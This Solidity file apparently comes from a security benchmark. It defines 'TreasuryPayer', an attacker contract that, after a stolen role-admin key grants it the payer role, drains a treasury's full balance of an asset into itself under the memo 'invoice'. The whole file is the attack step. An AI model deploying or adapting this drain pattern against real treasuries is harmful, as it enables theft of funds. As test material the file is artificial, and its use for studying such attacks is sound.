// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "../../breakers/Transfers.sol";

interface IRoleTreasury {
    function pay(address asset, address to, uint256 amount, bytes32 memo) external;
}

/// @title TreasuryPayer
/// @notice Benchmark attacker: the fresh contract a stolen role-admin key grants PAYER_ROLE to;
/// `empty` pays the treasury's balance of an asset here. The loot stays here.
contract TreasuryPayer {
    address public immutable owner;
    IRoleTreasury public immutable treasury;

    error NotOwner(address caller);

    constructor(IRoleTreasury treasury_) {
        owner = msg.sender;
        treasury = treasury_;
    }

    function empty(address asset) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        uint256 amount =
            asset == address(0) ? address(treasury).balance : IERC20(asset).balanceOf(address(treasury));
        treasury.pay(asset, address(this), amount, "invoice");
    }

    receive() external payable {}
}
